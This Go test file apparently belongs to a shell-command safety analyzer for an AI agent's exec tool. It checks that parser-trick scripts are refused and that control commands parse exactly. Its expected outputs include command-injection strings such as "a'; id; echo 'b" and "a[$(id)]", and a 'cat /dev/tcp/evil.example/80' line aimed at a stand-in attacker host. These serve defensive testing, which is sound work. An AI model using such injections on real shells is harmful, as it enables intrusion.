package analyzer_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"gavel"
	"gavel/analyzer"
)

// differential is a text in which a parser hides the command hit from view.
type differential struct {
	ID     string `json:"id"`
	Script string `json:"script"`
}

func TestDifferentialsAreRefused(t *testing.T) {
	t.Parallel()
	seen := map[string]bool{}
	for _, d := range lines[differential](t, "testdata/parser-differentials.jsonl") {
		seen[d.ID[:3]] = true
		for _, shell := range []string{"bash", "dash", "mksh"} {
			exec := analyze(t, claims(shell, ":", "echo", "hit", "let", "coproc", "shopt", "wait"), d.Script)
			assert.False(t, exec.Parsed, "%s in %s: %q became %q", d.ID, shell, d.Script, argvs(exec))
		}
	}
	for _, class := range strings.Fields("P01 P02 P03 P04 P05 P06 P07 P08 P09 P10 P11 P12 P13 P14 P15") {
		assert.True(t, seen[class], "no case of class %s", class)
	}
}

func TestControlsAreRefusedOrExact(t *testing.T) {
	t.Parallel()
	exact := map[string][][]string{
		"K003": {{"echo", "a'; id; echo 'b"}},
		"K017": {{"echo", "x"}},
		"K001": {{"echo", `a"; id; echo "b`}},
		"K002": {{"echo", `a'; id; echo `}},
		"K006": {{"test", "1", "-eq", "a[$(id)]"}},
		"K005": {{"ulimit", "-n", "a[$(id)]"}},
		"K008": {{"tr", "xnid"}},
		"K009": {{"ls"}},
		"K010": {{"cd", "-P", "--", "-"}, {"ls"}},
		"K011": {{"cat", "/dev/tcp/evil.example/80"}},
		"K014": {{"test", "a", ">", "f"}},
		"K015": {{"awk", "$1 > 5", "f"}},
		"K016": {{"echo", "a > b"}},
		"K013": {}, // a comparison, which runs nothing
	}
	type control struct {
		ID      string   `json:"id"`
		Command string   `json:"command"`
		Bins    []string `json:"bins"`
	}
	for _, c := range lines[control](t, "testdata/parser-controls.jsonl") {
		exec := analyze(t, claims("bash", c.Bins...), c.Command)
		if want, ok := exact[c.ID]; ok {
			assert.Equal(t, want, argvs(exec), "%s: %q, refused for %+v", c.ID, c.Command, exec.Refusal)
		} else {
			assert.False(t, exec.Parsed, "%s: %q became %q", c.ID, c.Command, argvs(exec))
		}
	}
}

// What was read of a text is kept for the next call with it. Taking it apart once, here
// or in another place, must leave it as it was.
func TestParsingAPrintedTextAgainGivesTheSame(t *testing.T) {
	t.Parallel()
	shared, err := analyzer.New(analyzer.Config{Host: emptyHost{}, Tables: shippedTables(t)})
	require.NoError(t, err)
	facts := func(command, shell, cwd string) *gavel.ExecFacts {
		environment := claims(shell, "cat", "git", "ls", "env", "xargs", "find", "rm", "sh", "bash", "grep", "npx")
		environment.Cwd = cwd
		return shared.Analyze(t.Context(), gavel.Call{Environment: environment,
			Tool: gavel.Tool{Name: "exec", Params: map[string]any{"command": command}}}, nil).Exec
	}
	for _, file := range []string{"bypass", "benign"} {
		for _, c := range lines[attack](t, "testdata/"+file+".jsonl") {
			first := facts(c.Command, "bash", "/srv/app")
			facts(c.Command, "bash", "/elsewhere")
			facts("env A=b "+c.Command, "bash", "/srv/app")
			require.Equal(t, first, facts(c.Command, "bash", "/srv/app"), c.Command)
		}
	}
}

// attack is a command of the corpus; cmd/gavel decides all of them.
type attack struct {
	Command string `json:"command"`
}
